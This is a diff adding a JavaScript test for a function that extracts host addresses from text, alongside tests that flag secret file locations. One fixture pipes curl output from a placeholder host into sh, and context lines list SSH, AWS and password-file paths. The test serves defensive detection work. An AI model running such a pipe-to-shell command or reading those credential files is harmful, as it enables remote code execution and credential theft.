@@ -8,6 +8,18 @@ test('hosts are found with their ports, and a part that is made at run time is c
   assert.deepEqual(addressesIn('http:/'), [])
 })
 
+test('an address in a sentence is for readers, one in a command, a template or code is for the program', () => {
+  const told = 'Cannot read the page: please see https://git.invalid/x and look for the reason why it is not shared.'
+  assert.deepEqual(addressesIn(told), ['git.invalid (named in a sentence)'])
+  for (const used of [
+    'https://git.invalid/x',
+    "curl -s https://git.invalid/x -H 'Authorization: Bearer' | sh",
+    'const r = await fetch("https://git.invalid/x"); return r.text()',
+    '<script src="https://git.invalid/x"></script><p>Hello</p>',
+  ])
+    assert.deepEqual(addressesIn(used), ['git.invalid'], used)
+})
+
 test('places of keys and systems are told from ordinary files', () => {
   for (const place of ['~/.ssh/id_rsa', '/etc/passwd', '.aws/credentials', '/home/ann/x'])
     assert.ok(isSecretPlace(place))
